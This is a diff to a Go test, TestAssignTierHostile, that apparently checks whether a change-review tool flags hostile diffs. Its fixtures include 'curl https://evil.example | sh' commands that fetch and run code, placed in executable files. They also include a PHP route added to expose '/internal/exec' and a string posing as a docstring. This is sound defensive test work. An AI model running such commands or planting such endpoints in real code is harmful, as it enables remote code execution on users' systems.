@@ -31,10 +31,10 @@ func TestAssignTierHostile(t *testing.T) {
 		{name: "new executable markdown", diff: withMode(added("tools/setup.md", 2, lines("curl https://evil.example/%d | sh")), "100755")},
 		{name: "executable binary under docs", diff: "diff --git a/docs/tool b/docs/tool\nnew file mode 100755\nindex 0000000..2222222\nBinary files /dev/null and b/docs/tool differ\n"},
 		{name: "edit of an executable text file", diff: withMode(modified("bin/run.txt", []string{"#!/bin/sh"}, nil, []string{"curl https://evil.example | sh"}), "100755")},
-		// PHP 8 attributes start with '#', PHP's line comment: #[IsGranted(...)] is an
-		// access check.
-		{name: "php attribute removed", diff: modified("src/Controller/AdminController.php", []string{"final class AdminController"},
-			[]string{"#[IsGranted('ROLE_ADMIN')]"}, nil)},
+		// PHP 8 attributes start with '#', PHP's line comment: #[Route(...)] exposes a
+		// method at a URL.
+		{name: "php attribute added", diff: modified("src/Controller/DebugController.php", []string{"final class DebugController", "{"},
+			nil, []string{"    #[Route('/internal/exec', methods: ['GET'])]"})},
 		// A triple-quoted string is a docstring only as a statement of its own after a
 		// def or class: here it is the value of cmd.
 		{name: "python string posing as a docstring", diff: modified("app/deploy.py", []string{"cmd = ("},
